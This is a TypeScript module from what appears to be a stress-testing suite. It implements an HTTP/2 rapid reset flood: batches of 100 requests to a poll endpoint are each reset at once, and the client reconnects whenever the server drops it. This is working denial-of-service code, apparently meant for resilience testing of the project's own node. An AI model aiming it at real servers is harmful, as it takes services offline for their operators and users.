// S7: HTTP/2 streams that are reset as soon as they are requested.

import type { Attack } from '../attack.ts'
import { getting, openHttp2, resetting } from '../http2.ts'
import { again, pump } from '../raw.ts'

const BATCH = 100

export const rapidReset: Attack = {
  name: 'rapid-reset',
  title: 'S7: HTTP/2 rapid reset from one client, which connects again when it is cut',
  rate: 'as fast as the node takes them, one connection at a time',
  needs: { h2c: true },
  async attack({ h2cPort, channel }, signal) {
    let resets = 0
    let sessions = 0
    await again(1, signal, async () => {
      const socket = await openHttp2(h2cPort)
      if (socket === undefined) return
      sessions++
      await pump(socket, signal, n => {
        resets += BATCH
        const streams = Array.from({ length: BATCH }, (_, i) => 2 * (n * BATCH + i) + 1)
        return Buffer.concat(
          streams.flatMap(stream => [getting(stream, `/v1/poll?channel=${channel}`), resetting(stream)]),
        )
      })
      socket.destroy()
    })
    return { did: { resets, sessions } }
  },
}
